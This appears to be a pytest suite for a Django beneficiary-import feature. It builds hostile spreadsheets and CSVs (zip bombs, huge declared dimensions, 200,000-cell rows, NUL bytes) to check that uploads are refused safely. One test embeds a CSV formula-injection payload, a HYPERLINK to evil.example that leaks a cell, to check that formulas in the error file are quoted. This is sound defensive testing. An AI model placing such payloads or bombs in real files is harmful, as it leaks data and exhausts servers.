"""Files built to hurt: small on disk, huge once read, or holding what a spreadsheet or the database chokes on.

Each file is built here, in memory. Timings are not asserted (see `make bench`); what is asserted
is where the reading stops and what the user is told.
"""

import csv
import io
import json
import re
import zipfile
from unittest import mock

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import translation

from beneficiaries.importing import FileRefused, build_plan, read_upload, render_all
from beneficiaries.importing.reading import MAX_READ_ROWS, MAX_SHEET_PARTS
from beneficiaries.models import Beneficiary, ImportJob
from tests.beneficiaries.spreadsheets import (
    SHEET,
    confirm_import,
    csv_bytes,
    lying_about_size,
    people,
    person,
    rewrite_zip,
    sheet_declaring,
    start_import,
    upload,
    wide_row,
    with_deflated_member,
    with_sheet_xml,
    xlsx_bytes,
)
from tests.conftest import KHEMISSET
from tests.factories import province

pytestmark = pytest.mark.django_db

LAST_EXCEL_CELL_ROW = '<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row>'


def refusal(data: bytes, name: str) -> list[str]:
    with pytest.raises(FileRefused) as refused, translation.override("en"):
        read_upload(data, name)
    with translation.override("en"):
        return [item["message"] for item in render_all(refused.value.problems)]


def whole_sheet_declared():
    """1 person, a sheet declaring A1:XFD1048576 (17 billion cells) and a cell on its last row."""
    return sheet_declaring(xlsx_bytes(people(1)), "A1:XFD1048576", LAST_EXCEL_CELL_ROW)


# 1. A declared dimension is not trusted; columns and rows read are capped, blank rows included


def test_a_sheet_declaring_every_excel_cell_is_refused_at_the_row_cap_not_read_to_its_end():
    data = whole_sheet_declared()
    assert len(data) < 6_000
    assert refusal(data, "people.xlsx") == [
        "The sheet goes on past row 21,001 (blank rows count too). Delete the rows below the last person, "
        "even those that look empty, and upload the file again."
    ]


def test_rows_of_a_sheet_declaring_16384_columns_are_as_wide_as_their_cells():
    data = sheet_declaring(xlsx_bytes(people(2)), "A1:XFD3")
    table = read_upload(data, "people.xlsx")
    assert [len(cells) for _, cells in table.rows] == [8, 8]
    assert len(table.titles) == 8


def test_data_after_the_100th_column_is_not_read():
    far = '<c r="CW2" t="inlineStr"><is><t>far away</t></is></c>'  # CW = column 101
    data = sheet_declaring(xlsx_bytes(people(1)), "A1:CW2")
    data = rewrite_zip(
        data, {SHEET: lambda xml: xml.replace(b"</row></sheetData>", far.encode() + b"</row></sheetData>")}
    )
    table = read_upload(data, "people.xlsx")
    [(row_number, cells)] = table.rows
    assert row_number == 2
    assert len(cells) == 8  # "far away" was not read
    assert table.header.unknown == []


def test_blank_rows_count_toward_the_rows_read():
    header, row = "cin,first_name,last_name,sex,date_of_birth", "KA1,Karim,Bennani,M,01/01/1990"
    within = "\n".join([header, row, *[""] * 900, "KA2,Karim,Bennouna,M,01/01/1990"])
    assert len(read_upload(within.encode(), "people.csv").rows) == 2
    past = "\n".join([header, row, *[""] * MAX_READ_ROWS, "KA2,Karim,Bennouna,M,01/01/1990"])
    [message] = refusal(past.encode(), "people.csv")
    assert message.startswith("The sheet goes on past row 21,001")


def test_the_upload_request_only_stores_the_file_and_the_worker_reads_it(client_for, khemisset_staff):
    client = client_for(khemisset_staff)
    # Without running the on-commit callbacks nothing but the request runs: it must not read the file.
    with mock.patch("beneficiaries.importing.reading.build_table", side_effect=AssertionError("read in the request")):
        response = client.post(
            reverse("beneficiaries:import_upload"), {"file": upload(whole_sheet_declared(), "big.xlsx")}
        )
    job = ImportJob.objects.get()
    assert response["Location"] == job.get_absolute_url()
    assert (job.status, job.total_rows) == (ImportJob.Status.QUEUED, 0)


def test_the_hostile_sheet_uploaded_fails_its_job_with_the_row_cap_message_in_french(
    client_for, khemisset_staff, django_capture_on_commit_callbacks
):
    client = client_for(khemisset_staff)
    client.cookies["idmaj_language"] = "fr"
    job = start_import(client, django_capture_on_commit_callbacks, whole_sheet_declared(), "liste.xlsx")
    assert job.status == ImportJob.Status.FAILED
    page = client.get(job.get_absolute_url()).text
    failure = re.search(r'<div class="alert alert-danger" role="alert" id="failure">(.*?)</div>', page, re.S).group(1)
    assert "21 001" in failure.replace("\u202f", " ").replace("\xa0", " ")
    assert "0 ligne" not in page  # the file was never read into rows: no count is given
    assert not job.file and Beneficiary.objects.count() == 0


def test_the_worker_sets_the_row_count_once_it_has_read_the_file(
    client_for, khemisset_staff, django_capture_on_commit_callbacks
):
    job = start_import(client_for(khemisset_staff), django_capture_on_commit_callbacks, csv_bytes(people(3)))
    assert (job.status, job.total_rows, job.processed_rows) == (ImportJob.Status.VALIDATED, 3, 3)


# 2. Zip members are checked before openpyxl opens the workbook


def test_a_workbook_whose_shared_strings_unpack_to_200_mb_is_refused_before_openpyxl_opens_it():
    data = with_deflated_member(xlsx_bytes(people(1)), "xl/sharedStrings.xml", megabytes=200)
    assert len(data) < 400_000
    with mock.patch("openpyxl.load_workbook", side_effect=AssertionError("opened")):
        [message] = refusal(data, "people.xlsx")
    assert message.startswith("The workbook unpacks to more than 50 MB, so it was not opened.")


def test_a_workbook_part_compressed_more_than_100_to_1_is_refused():
    data = with_deflated_member(xlsx_bytes(people(1)), "xl/sharedStrings.xml", megabytes=5)
    with mock.patch("openpyxl.load_workbook", side_effect=AssertionError("opened")):
        [message] = refusal(data, "people.xlsx")
    assert message.startswith("Part of the workbook unpacks to more than 100 times its size")


def test_a_zip_member_lying_about_its_size_is_read_no_further_than_it_declares():
    padded = rewrite_zip(
        xlsx_bytes(people(1)), {SHEET: lambda xml: xml.replace(b"<sheetData>", b"<sheetData>" + b" " * 3_000_000)}
    )
    data = lying_about_size(padded, SHEET, 500)
    # zipfile stops at the declared size and the CRC then fails: 3 MB never come out of it.
    with zipfile.ZipFile(io.BytesIO(data)) as archive, pytest.raises(zipfile.BadZipFile, match="CRC"):
        archive.read(SHEET)
    assert refusal(data, "people.xlsx") == ["The file could not be opened as an Excel workbook (.xlsx)."]


def test_a_zip_member_declaring_a_huge_size_is_refused_on_its_word():
    data = lying_about_size(xlsx_bytes(people(1)), SHEET, 3_000_000_000)
    [message] = refusal(data, "people.xlsx")
    assert message.startswith("The workbook unpacks to more than 50 MB")


# 3. A report stores a bounded number of problems, warnings and columns, and says how many more


def wide_file(invalid_rows: int) -> bytes:
    """A header of 5,000 columns (8 known) and rows whose sex is unreadable."""
    header = [*person(1), *(f"extra {n}" for n in range(4_992))]
    rows = [person(n, sex="?") for n in range(1, invalid_rows + 1)]
    return csv_bytes(rows, header)


def test_a_header_of_5000_columns_and_300_invalid_rows_stores_a_small_report(
    client_for, khemisset_staff, django_capture_on_commit_callbacks
):
    client = client_for(khemisset_staff)
    client.cookies["idmaj_language"] = "en"
    job = start_import(client, django_capture_on_commit_callbacks, wide_file(300))
    assert job.counts["invalid"] == 300
    assert len(json.dumps(job.report)) < 100_000
    assert (len(job.report["problems"]), job.report["more_problems"]) == (200, 100)
    assert (len(job.report["unknown_columns"]), job.report["more_unknown_columns"]) == (20, 72)  # 100 read
    page = client.get(job.get_absolute_url()).text
    assert "And 100 more problems: see the file of invalid rows." in page
    assert "<li>and 72 more columns</li>" in page
    errors = client.get(reverse("beneficiaries:import_errors", args=[job.pk])).getvalue().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(errors), delimiter=";"))
    assert len(rows) == 1 + 300  # every invalid row, not only those whose problems the report kept
    assert rows[-1][-1].startswith("sex: Write M for a man")


def test_one_more_problem_is_said_in_the_singular(client_for, khemisset_staff, django_capture_on_commit_callbacks):
    client = client_for(khemisset_staff)
    client.cookies["idmaj_language"] = "en"
    job = start_import(client, django_capture_on_commit_callbacks, wide_file(201))
    page = client.get(job.get_absolute_url()).text
    assert "And 1 more problem: see the file of invalid rows." in page


def test_the_recent_imports_list_does_not_load_any_report(
    client_for, khemisset_staff, django_capture_on_commit_callbacks
):
    client = client_for(khemisset_staff)
    job = start_import(client, django_capture_on_commit_callbacks, wide_file(3))
    with CaptureQueriesContext(connection) as queries:
        page = client.get(reverse("beneficiaries:import_upload")).text
    assert job.original_name in page
    job_queries = [q["sql"] for q in queries if "beneficiaries_importjob" in q["sql"]]
    assert job_queries
    assert not any('"beneficiaries_importjob"."report"' in sql for sql in job_queries)


def test_a_header_title_of_100000_characters_is_cut_before_it_reaches_the_report():
    rows = [{**person(1), "x" * 100_000: "note"}]
    plan = build_plan(read_upload(csv_bytes(rows), "people.csv"), province(KHEMISSET))
    assert len(json.dumps(plan.report())) < 2_000


# 4. What the commit would refuse, the dry run refuses, with the row and the column


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("cin", "KA\x00123"),
        ("sex", "M\x00"),
        ("date_of_birth", "01/01/1990\x00"),
        ("release_date", "15/06\x01/2024"),
        ("phone", "06 12\x00 34 56 78"),
        ("referral_source", "prison\u202e"),
    ],
)
def test_an_invisible_character_in_a_coded_cell_is_refused_with_its_row_and_column_alone(field, value):
    header = [*person(1), "referral_source"]
    rows = [person(1), person(2, **{field: value})]
    plan = build_plan(read_upload(csv_bytes(rows, header), "people.csv"), province(KHEMISSET))
    assert [(p["row"], p["column"], p["code"]) for p in plan.problems] == [(3, field, "control_character")]
    with translation.override("en"):
        message = render_all(plan.problems)[0]["message"]
    assert re.fullmatch(
        r"This text contains an invisible or control character \(U\+[0-9A-F]{4}\): remove it \(often pasted from "
        r"another program\)\.",
        message,
    )


def nul_in(field: str, value: str) -> bytes:
    """A CSV with one good row and, on row 3, `value` holding a NUL byte."""
    return csv_bytes([person(1), person(2, **{field: value})])


def test_a_nul_byte_in_a_csv_date_cell_is_refused_by_the_dry_run_with_its_row_and_column_and_nothing_is_written(
    client_for, khemisset_staff, django_capture_on_commit_callbacks
):
    client = client_for(khemisset_staff)
    client.cookies["idmaj_language"] = "en"
    job = start_import(client, django_capture_on_commit_callbacks, nul_in("date_of_birth", "02/01/1960\x00"))
    assert job.status == ImportJob.Status.VALIDATED  # the report was stored: no NUL went into it
    page = client.get(job.get_absolute_url()).text
    assert re.search(
        r"<tr><td>3</td><td>Karim [^<]+</td><td>date_of_birth</td>"
        r"<td>This text contains an invisible or control character \(U\+0000\)",
        page,
    )
    job = confirm_import(client, django_capture_on_commit_callbacks, job, skip_invalid=True)
    assert job.status == ImportJob.Status.DONE
    assert list(Beneficiary.objects.values_list("cin", flat=True)) == ["KA100001"]


def test_a_nul_byte_in_a_csv_cell_is_refused_by_the_dry_run_with_its_row_and_column_and_nothing_is_written(
    client_for, khemisset_staff, django_capture_on_commit_callbacks
):
    client = client_for(khemisset_staff)
    job = start_import(client, django_capture_on_commit_callbacks, nul_in("first_name", "Ka\x00rim"))
    assert job.status == ImportJob.Status.VALIDATED
    assert job.counts["invalid"] == 1
    assert [(p["row"], p["column"]) for p in job.report["problems"]] == [(3, "first_name")]
    job = confirm_import(client, django_capture_on_commit_callbacks, job, skip_invalid=True)
    assert job.status == ImportJob.Status.DONE
    assert list(Beneficiary.objects.values_list("cin", flat=True)) == ["KA100001"]


def test_a_header_title_with_a_nul_byte_refuses_the_file_naming_its_column():
    data = csv_bytes(people(1), [*person(1), "notes\x00"])
    assert refusal(data, "people.csv") == [
        "The title of column I holds an invisible control character (U+0000). Retype that title and upload "
        "the file again."
    ]


def test_the_csv_reader_keeps_a_nul_byte_in_its_cell_so_the_check_can_point_at_it():
    table = read_upload(nul_in("commune", "Tif\x00let"), "people.csv")
    assert table.rows[1] == (3, [*person(2, commune="Tif\x00let").values()])


# 5. Every cell of the error file is spreadsheet-safe, titles and messages included


def test_the_error_file_quotes_formulas_in_titles_cells_and_messages(
    client_for, khemisset_staff, django_capture_on_commit_callbacks
):
    link = '=HYPERLINK("http://evil.example/?leak="&A2,"open")'
    header = ["=cin", "first_name", "last_name", "sex", "date_of_birth", link]
    rows = [
        {
            "=cin": "123",
            "first_name": "Karim",
            "last_name": "Bennani",
            "sex": "M",
            "date_of_birth": "01/01/1990",
            link: link,
        }
    ]
    client = client_for(khemisset_staff)
    client.cookies["idmaj_language"] = "en"
    job = start_import(client, django_capture_on_commit_callbacks, csv_bytes(rows, header))
    content = client.get(reverse("beneficiaries:import_errors", args=[job.pk])).getvalue().decode("utf-8-sig")
    titles, row = list(csv.reader(io.StringIO(content), delimiter=";"))
    assert titles == [
        "'=cin",
        "first_name",
        "last_name",
        "sex",
        "date_of_birth",
        "'" + link,
        "row in the uploaded file",
        "error",
    ]
    assert row[5] == "'" + link
    assert row[7].startswith("'=cin: A CIN is one or two letters")


# 6. What openpyxl would build at once is counted while streaming the sheet, before it builds anything

NOT_BUILT = "openpyxl.worksheet._reader.WorkSheetParser.parse_row"  # where openpyxl builds a row's cells


def test_a_row_of_200000_cells_is_refused_naming_its_row_before_openpyxl_builds_a_single_row():
    data = with_sheet_xml(xlsx_bytes(people(1)), wide_row(200_000, number=3))
    assert len(data) < 1_000_000
    with mock.patch(NOT_BUILT, side_effect=AssertionError("a row was built")):
        assert refusal(data, "people.xlsx") == [
            "Row 3 of the sheet has more than 100 cells (empty cells with a format count too), so the file was "
            "not read. Delete the columns after the last one used, or save the sheet as “CSV UTF-8”, and upload "
            "that file."
        ]


def test_a_row_of_exactly_100_cells_is_read():
    table = read_upload(with_sheet_xml(xlsx_bytes(people(1)), wide_row(100, number=3)), "people.xlsx")
    assert [number for number, _ in table.rows] == [2, 3]


def test_the_upload_of_a_row_of_200000_cells_fails_its_job_cleanly(
    client_for, khemisset_staff, django_capture_on_commit_callbacks
):
    client = client_for(khemisset_staff)
    client.cookies["idmaj_language"] = "en"
    data = with_sheet_xml(xlsx_bytes(people(1)), wide_row(200_000, number=2_000))
    job = start_import(client, django_capture_on_commit_callbacks, data, "liste.xlsx")
    assert job.status == ImportJob.Status.FAILED
    page = client.get(job.get_absolute_url()).text
    assert "Row 2,000 of the sheet has more than 100 cells" in page
    assert (bool(job.file), bool(job.errors_file), Beneficiary.objects.count()) == (False, False, 0)


def test_a_cell_of_3000_rich_text_runs_is_refused_naming_its_row():
    runs = "".join(f"<r><t>{n}</t></r>" for n in range(3_000))
    data = with_sheet_xml(xlsx_bytes(people(1)), f'<row r="3"><c t="inlineStr"><is>{runs}</is></c></row>')
    with mock.patch(NOT_BUILT, side_effect=AssertionError("a row was built")):
        [message] = refusal(data, "people.xlsx")
    assert message.startswith("Row 3 of the sheet holds more rich text or formatting than a list of people needs")


def test_a_sheet_of_100001_merged_cells_is_refused_before_openpyxl_reads_them():
    merged = "".join(f'<mergeCell ref="A{n}:B{n}"/>' for n in range(3, MAX_SHEET_PARTS + 4))
    data = with_sheet_xml(xlsx_bytes(people(1)), f"<mergeCells>{merged}</mergeCells>", after_rows=True)
    with mock.patch(NOT_BUILT, side_effect=AssertionError("a row was built")):
        [message] = refusal(data, "people.xlsx")
    assert message.startswith("Besides its cells, the sheet holds more than 100,000 merged cells, links, formats")


def test_rows_that_all_claim_to_be_row_1_count_toward_the_rows_read():
    data = with_sheet_xml(xlsx_bytes(people(1)), '<row r="1"/>' * MAX_READ_ROWS)
    [message] = refusal(data, "people.xlsx")
    assert message.startswith("The sheet goes on past row 21,001 (blank rows count too).")
